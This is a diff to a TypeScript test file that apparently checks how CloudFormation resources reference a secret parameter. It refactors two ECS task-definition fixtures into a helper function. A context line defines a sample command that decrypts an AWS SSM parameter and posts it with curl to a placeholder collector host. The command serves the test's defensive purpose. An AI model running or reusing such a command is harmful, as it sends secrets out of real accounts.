@@ -65,6 +65,12 @@ function sweepingRead(label: string, resource: string): [string, string] {
 /** A command that reads a receiver parameter and sends it elsewhere. */
 const READ_COMMAND = `aws ssm get-parameter --with-decryption --name ${NAME} | curl -s --data-binary @- https://collector.example.net/in`;
 
+/** A template's ECS task definition, "Task", whose container takes a secret from `valueFrom`. */
+function taskWithSecret(valueFrom: object): Record<string, object> {
+  const container = { Name: "app", Image: "busybox", Secrets: [{ Name: "URL", ValueFrom: valueFrom }] };
+  return { Task: { Type: "AWS::ECS::TaskDefinition", Properties: { ContainerDefinitions: [container] } } };
+}
+
 /** A template body of one resource. */
 function template(logicalId: string, type: string, properties: Record<string, unknown>): string {
   return JSON.stringify({
@@ -369,41 +375,13 @@ const ROWS: Row[] = [
       ],
       [
         "a task definition's secret taken from Mappings with Fn::FindInMap",
-        {
-          Task: {
-            Type: "AWS::ECS::TaskDefinition",
-            Properties: {
-              ContainerDefinitions: [
-                {
-                  Name: "app",
-                  Image: "busybox",
-                  Secrets: [{ Name: "URL", ValueFrom: { "Fn::FindInMap": ["Secrets", "jira", "url"] } }],
-                },
-              ],
-            },
-          },
-        },
+        taskWithSecret({ "Fn::FindInMap": ["Secrets", "jira", "url"] }),
         `CloudFormation resource "Task" (AWS::ECS::TaskDefinition)`,
         `containerDefinitions[0].secrets[0].ValueFrom "${NAME}"`,
       ],
       [
         "a task definition's secret from Fn::FindInMap by a key the stack chooses",
-        {
-          Task: {
-            Type: "AWS::ECS::TaskDefinition",
-            Properties: {
-              ContainerDefinitions: [
-                {
-                  Name: "app",
-                  Image: "busybox",
-                  Secrets: [
-                    { Name: "URL", ValueFrom: { "Fn::FindInMap": ["Secrets", { Ref: "Team" }, "url"] } },
-                  ],
-                },
-              ],
-            },
-          },
-        },
+        taskWithSecret({ "Fn::FindInMap": ["Secrets", { Ref: "Team" }, "url"] }),
         `CloudFormation resource "Task" (AWS::ECS::TaskDefinition)`,
         `Properties.ContainerDefinitions[0].Secrets[0].ValueFrom["Fn::FindInMap"].jira.url "${NAME}"`,
       ],
